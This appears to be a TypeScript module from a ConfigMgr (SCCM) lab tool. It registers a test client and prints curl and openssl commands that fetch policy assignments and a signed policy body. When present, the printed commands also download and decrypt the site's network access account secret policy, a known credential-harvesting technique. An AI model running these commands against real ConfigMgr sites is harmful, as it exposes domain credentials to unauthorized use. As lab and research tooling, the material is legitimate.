// `ibcm-lab up`: policy by hand. The lab's first internet client registers (through the proxy, as
// in any check) and `up` prints curl commands that fetch its policy assignments and one policy body
// the way the public tools do against a real MP:
// - assignments: `CCM_POST /ccm_system/request` with a signed RequestAssignments message (W:22, W:25),
//   saved to a file exactly as the client builds it — a message signature covers the compressed
//   body, not a time, so the same file can be sent again; a small script (no dependencies) prints
//   the UTF-16LE XML of the multipart/zlib reply (W:18, W:68: XML + one NUL);
// - a policy body: `GET /SMS_MP/.sms_pol?…` with `ClientToken: GUID:<id>;<time>;2` and
//   `ClientTokenSignature` = the signature of UTF-16LE(token + NUL), SHA-256 RSA PKCS#1 v1.5, bytes
//   reversed (CryptoAPI order), hex upper case — SharpSCCM `SendPolicyDownloadRequest` (W:21, W:19).
//   The MP accepts the DigestInfo padding `openssl dgst -sha256 -sign` makes (sccmwtf, Metasploit).
import { createPublicKey } from 'node:crypto';
import { mkdirSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import {
  CCM_CONTENT_TYPE,
  SHA256_RSA_OID,
  encodeMessage,
  escapeXml,
  publicKeyBlobHex,
  signCryptoApi,
  utf16WithNul,
} from '../ccm-messaging/index.js';
import { IbcmClient, MESSAGING_USER_AGENT, policyRequestTarget } from '../client/index.js';
import type { Lab } from '../lab/index.js';

/** Reads an MP reply (multipart/mixed, a zlib body part) and prints the UTF-16LE XML, its NUL dropped. */
const DECODE_REPLY_SCRIPT = `// Prints the XML of a ConfigMgr MP reply saved by curl (multipart/mixed; zlib body part, UTF-16LE, one NUL).
import { readFileSync } from 'node:fs';
import { inflateSync } from 'node:zlib';
const raw = readFileSync(process.argv[2]);
const boundary = raw.toString('latin1').split('\\r\\n', 1)[0];
if (!boundary.startsWith('--')) { console.error('not a multipart reply (an empty 200 means: not authorised / no policy)'); process.exit(1); }
const text = raw.toString('latin1');
for (const part of text.split(boundary).slice(1)) {
  const split = part.indexOf('\\r\\n\\r\\n');
  if (split < 0 || !/content-type:\\s*application\\/octet-stream/i.test(part.slice(0, split))) continue;
  const body = Buffer.from(part.slice(split + 4, part.lastIndexOf('\\r\\n')), 'latin1');
  process.stdout.write(inflateSync(body).toString('utf16le').replace(/\\0$/, '') + '\\n');
  process.exit(0);
}
console.error('no application/octet-stream part in the reply');
process.exit(1);
`;

export interface TryPolicy {
  /** Lines to print: comments and commands, as a person runs them in bash. */
  lines: string[];
  smsId: string;
  policyTarget: string;
}

/**
 * Registers the lab's first client through the lab (the proxy in bridge/tunnel mode), writes what the
 * commands need into `dir` and returns the commands. `curlBase` is the curl invocation up to the URL
 * (CA, client certificate, --resolve), the same the MP-list command uses.
 */
export async function preparePolicyCommands(lab: Lab, dir: string, curlBase: string, origin: string): Promise<TryPolicy> {
  mkdirSync(dir, { recursive: true, mode: 0o700 });
  const client = new IbcmClient(lab.clientProfile());
  try {
    const registration = await client.register();
    if (!client.smsId)
      throw new Error(`the client did not register: ${client.registrationFailure ?? registration.replyError ?? 'no SMSID'}`);
    const smsId = client.smsId;
    const assignments = await client.requestAssignments();
    const first = assignments.assignments[0];
    if (!first)
      throw new Error(`the MP assigned the client no policy (HTTP ${assignments.exchange.status ?? assignments.exchange.error?.code})`);
    const identity = await client.signingIdentity();
    const profile = client.profile;
    // The same RequestAssignments the client just sent, signed with its key (W:22, W:25).
    const body =
      `<RequestAssignments SchemaVersion="1.00" ACK="false" RequestType="Always"><Identification><Machine><ClientID>${smsId}</ClientID>` +
      `<FQDN>${escapeXml(profile.fqdn)}</FQDN><NetBIOSName>${escapeXml(profile.computerName)}</NetBIOSName><SID/></Machine><User/></Identification>` +
      `<PolicySource>SMS:${profile.install.SMSSITECODE}</PolicySource><Resource ResourceType="Machine"/><ServerCookie/></RequestAssignments>`;
    const message = encodeMessage(
      { sourceId: smsId, sourceHost: profile.computerName, targetEndpoint: 'MP_PolicyManager', targetHost: profile.install.CCMHOSTNAME },
      body,
      (compressed) => [
        ['PublicKey', publicKeyBlobHex(createPublicKey(identity.privateKey))],
        ['ClientIDSignature', signCryptoApi(identity.privateKey, utf16WithNul(smsId))],
        ['PayloadSignature', signCryptoApi(identity.privateKey, compressed)],
        ['HashAlgorithm', SHA256_RSA_OID],
      ],
    );
    const files = {
      key: join(dir, 'signing.key'),
      request: join(dir, 'request-assignments.msg'),
      reply: join(dir, 'assignments.reply'),
      decode: join(dir, 'decode-reply.mjs'),
      policy: join(dir, 'policy.xml'),
    };
    writeFileSync(files.key, identity.privateKey.export({ type: 'pkcs8', format: 'pem' }), { mode: 0o600 });
    writeFileSync(files.request, message.body);
    writeFileSync(files.decode, DECODE_REPLY_SCRIPT);
    const policyTarget = policyRequestTarget(first.location);
    const lines = [
      `  # ${profile.computerName} has registered through the lab as ${smsId}; its message-signing key is ${files.key}`,
      `  # its policy assignments: the signed RequestAssignments message (MP_PolicyManager) as the client sends it, and the reply's XML`,
      `  ${curlBase} \\\n       -X CCM_POST -H 'Content-Type: ${CCM_CONTENT_TYPE}' -H 'User-Agent: ${MESSAGING_USER_AGENT}' \\\n       --data-binary @${files.request} -o ${files.reply} '${origin}/ccm_system/request' && node ${files.decode} ${files.reply}`,
      `  # one policy body, authenticated with ClientToken: the token, then its signature over UTF-16LE(token + NUL),`,
      `  # SHA-256 RSA signed with the client's key, bytes reversed (CryptoAPI order), hex upper case`,
      `  TOKEN="${smsId};$(date -u +%Y-%m-%dT%H:%M:%SZ);2"`,
      `  SIG=$(printf '%s\\0' "$TOKEN" | iconv -f UTF-8 -t UTF-16LE | openssl dgst -sha256 -sign ${files.key} -binary | od -An -v -tx1 | tr -d ' \\n' | fold -w2 | tac | tr -d '\\n' | tr a-f A-F)`,
      `  ${curlBase} \\\n       -H "ClientToken: $TOKEN" -H "ClientTokenSignature: $SIG" -o ${files.policy} -w '%{http_code}\\n' '${origin}${policyTarget}' && cat ${files.policy}`,
    ];
    // The site's network access account: a secret policy, CMS EnvelopedData to the certificate the
    // client registered (W:26, W:71) — opened with the same key; its content is UTF-16LE XML.
    const secret = /<Policy PolicyID="[^"]+"[^>]*PolicyCategory="NAAConfig"[^>]*>[\s\S]*?<!\[CDATA\[([^\]]+)\]\]>/.exec(
      assignments.reply?.bodyXml ?? '',
    )?.[1];
    if (secret) {
      const naa = join(dir, 'naa-policy.p7');
      lines.push(
        `  # the site's network access account: a secret policy, CMS EnvelopedData to the client's certificate, opened with its key`,
        `  ${curlBase} \\\n       -H "ClientToken: $TOKEN" -H "ClientTokenSignature: $SIG" -o ${naa} '${origin}${policyRequestTarget(secret)}' \\\n       && openssl cms -decrypt -inform DER -in ${naa} -inkey ${files.key} | iconv -f UTF-16LE -t UTF-8 | tr -d '\\0'; echo`,
      );
    }
    return { lines, smsId, policyTarget };
  } finally {
    await client.close();
  }
}
